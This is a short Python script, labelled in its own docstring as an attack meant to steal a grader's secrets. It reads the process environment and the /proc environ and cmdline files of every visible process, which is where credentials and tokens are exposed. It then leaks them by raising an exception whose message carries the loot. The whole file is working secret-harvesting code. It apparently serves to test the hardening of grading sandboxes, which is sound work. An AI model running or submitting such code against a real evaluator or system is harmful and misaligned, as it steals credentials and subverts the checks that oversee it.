"""Attack: steal the grader's secrets from the environment: os.environ, /proc/*/environ and
/proc/*/cmdline of every process in sight; put them all in an exception message."""
import os

loot = [repr(dict(os.environ))]
for entry in os.listdir("/proc"):
    if entry.isdigit() or entry == "self":
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{entry}/{what}", "rb") as f:
                    loot.append(f"{entry}/{what}: {f.read(4000)!r}")
            except OSError:
                pass
raise RuntimeError("LOOT: " + " ".join(loot))
